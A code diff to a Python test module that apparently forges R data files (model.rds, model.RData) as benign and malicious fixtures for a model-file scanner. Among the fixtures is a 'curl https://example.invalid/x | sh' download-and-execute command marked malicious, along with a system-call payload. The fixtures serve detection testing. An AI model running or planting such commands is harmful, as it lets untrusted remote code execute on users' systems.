@@ -6,7 +6,7 @@ import struct
 from typing import Any
 
 from stannary.testing.forges import forge
-from stannary.testing.forges._format_writers import r_file
+from stannary.testing.forges._format_writers import constant, r_file
 
 _F = "R"
 _RUN = ("call", "system", "echo stannary")
@@ -27,7 +27,7 @@ _OBJECTS: dict[str, tuple[Any, bool | None]] = {
     "text_shell": (("list", "curl https://example.invalid/x | sh"), True),
 }
 for _name, (_value, _bad) in _OBJECTS.items():
-    forge(f"rdata.{_name}", filename="model.rds", family=_F, malicious=_bad)(lambda value=_value: r_file(value))
+    forge(f"rdata.{_name}", filename="model.rds", family=_F, malicious=_bad)(constant(r_file(_value)))
 
 
 @forge("rdata.saved", filename="model.RData", family=_F, malicious=True)
